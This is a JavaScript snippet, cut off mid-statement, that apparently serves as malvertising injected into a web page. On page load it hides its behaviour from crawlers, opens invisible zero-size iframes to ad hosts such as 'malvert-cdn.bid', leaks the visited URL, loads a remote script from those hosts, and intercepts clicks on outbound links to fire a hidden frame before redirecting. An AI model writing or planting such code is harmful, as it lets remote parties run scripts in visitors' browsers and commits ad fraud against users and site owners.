var adHosts = ['https://malvert-cdn.bid/ad', 'https://popcash-net.top/p', 'https://clk-redirect-ad.icu/c'];
var pick = adHosts[Math.floor(Math.random() * adHosts.length)];

function hiddenFrame(src) {
  var fr = document.createElement('iframe');
  fr.setAttribute('src', src);
  fr.setAttribute('width', '0');
  fr.setAttribute('height', '0');
  fr.setAttribute('style', 'visibility:hidden;position:absolute;left:-1px;top:-1px');
  document.body.appendChild(fr);
  return fr;
}

window.addEventListener('load', function () {
  if (/bot|spider/i.test(navigator.userAgent)) return;
  hiddenFrame(pick + '?zone=4471&ref=' + encodeURIComponent(location.href));
  setTimeout(function () {
    hiddenFrame(pick + '?zone=4472&rot=1');
  }, 15000);
  var s = document.createElement('script');
  s.src = pick + '/tag.js?z=4471';
  document.head.appendChild(s);
  document.querySelectorAll('a').forEach(function (a) {
    if (a.hostname !== location.hostname) {
      a.addEventListener('click', function (ev) {
        ev.preventDefault();
        hiddenFrame(pick + '?zone=4473&out=' + encodeURIComponent(a.href));
        setTimeout(function () { location.href = a.href; }, 300
